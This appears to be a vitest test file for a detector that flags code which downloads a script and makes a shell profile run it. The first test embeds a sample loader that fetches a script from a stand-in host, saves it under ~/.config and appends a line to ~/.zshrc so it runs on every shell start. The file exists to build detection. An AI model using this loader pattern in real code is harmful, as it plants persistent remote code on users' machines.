import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-persists.ts'

test('a download that a shell profile starts from then on', async () => {
  const code = `import { writeFileSync, appendFileSync } from 'node:fs'
import { homedir } from 'node:os'
export async function install() {
  const text = await (await fetch('https://sync.invalid/s')).text()
  writeFileSync(homedir() + '/.config/.sync.js', text)
  appendFileSync(homedir() + '/.zshrc', '\\n(node ~/.config/.sync.js &)\\n')
}
`
  const [finding] = hits(detector, await artifactOf({ 'src/cron.mjs': code }))
  expect(finding).toMatchObject({ strength: 'decisive', where: { file: 'src/cron.mjs', line: 6 } })
})

test('a download that is only kept, and a profile that gets a line of ones own, are innocent', async () => {
  const keeps =
    "import { writeFileSync } from 'node:fs'\nwriteFileSync('data.json', await (await fetch('https://a.example/d')).text())\n"
  const completes =
    "import { appendFileSync } from 'node:fs'\nimport { homedir } from 'node:os'\nappendFileSync(homedir() + '/.zshrc', 'source <(mytool completion)')\n"
  expect(hits(detector, await artifactOf({ 'a.mjs': keeps, 'b.mjs': completes }))).toEqual([])
})
